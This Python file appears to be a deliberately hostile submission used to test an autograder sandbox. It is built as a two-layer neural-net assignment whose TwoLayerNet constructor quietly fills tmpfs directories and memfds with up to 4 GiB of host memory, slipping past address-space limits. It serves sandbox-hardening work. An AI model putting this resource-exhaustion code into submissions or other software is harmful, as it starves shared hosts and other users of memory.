# HOSTILE tmpfs_fill: TwoLayerNet.__init__ fills every RAM-backed place a sandbox may offer -- files in
# /tmp, /dev/shm, / and /dev (bubblewrap's tmpfs report the host's RAM as their size), then memfds --
# 8 MiB at a time (RLIMIT_FSIZE; fallocate, so it is fast) up to 4 GiB, and keeps them. RLIMIT_AS does not see any of it: under a
# 2 GiB address-space limit this held 4.1-4.6 GiB of host memory. Sound grader: the sandbox's tmpfs are
# small and read-only where they need not be written, and a memory cgroup counts the rest; TwoLayerNet 0
# (stub), Sigmoid and train_xor full.
import os
import numpy as np

SIZE = 8 * 1024 * 1024
TOTAL = 4 * 1024 ** 3
HELD = []
WRITTEN = {}


def _fill(budget):
    done = sum(WRITTEN.values())
    for place in ("/tmp", "/dev/shm", "/", "/dev"):
        for i in range(100000):
            if done >= budget:
                return done
            try:
                fd = os.open(os.path.join(place, f".fill-{os.getpid()}-{i}"), os.O_WRONLY | os.O_CREAT, 0o600)
                try:
                    os.posix_fallocate(fd, 0, SIZE)
                finally:
                    os.close(fd)
            except OSError:
                break
            WRITTEN[place] = WRITTEN.get(place, 0) + SIZE
            done += SIZE
    while done < budget:
        try:
            fd = os.memfd_create("fill")
            HELD.append(fd)
            os.posix_fallocate(fd, 0, SIZE)
        except OSError:
            break
        WRITTEN["memfd"] = WRITTEN.get("memfd", 0) + SIZE
        done += SIZE
    return done


class FullyConnectedLayer:
    def __init__(self, in_features, out_features):
        self.W = np.random.randn(in_features, out_features) * np.sqrt(2.0 / in_features)
        self.b = np.zeros(out_features)
        self.dW = None
        self.db = None
        self.cache = None

    def forward(self, X):
        self.cache = X
        return X @ self.W + self.b

    def backward(self, dY):
        X = self.cache
        self.dW = X.T @ dY
        self.db = np.sum(dY, axis=0)
        return dY @ self.W.T


class Sigmoid:
    def __init__(self):
        self.cache = None

    def forward(self, x):
        e = np.exp(-np.abs(x))
        out = np.where(x >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
        self.cache = out
        return out

    def backward(self, dout):
        return dout * self.cache * (1.0 - self.cache)


class TwoLayerNet:
    def __init__(self, in_features, hidden_features, out_features):
        total = _fill(TOTAL)
        print(f"held {total / 1024 ** 2:.0f} MiB: " + ", ".join(f"{k} {v // 1024 ** 2} MiB" for k, v in WRITTEN.items()))
        raise NotImplementedError("請實作 TwoLayerNet.__init__")

    def forward(self, X):
        raise NotImplementedError

    def backward(self, dout):
        raise NotImplementedError

    def get_params_and_grads(self):
        raise NotImplementedError


def train_xor(net, X, y, learning_rate, epochs):
    losses = []
    for epoch in range(epochs):
        Y = net.forward(X)
        losses.append(np.mean((Y - y) ** 2))
        net.backward(2 * (Y - y) / Y.size)
        for param, grad in net.get_params_and_grads():
            param -= learning_rate * grad
    return losses
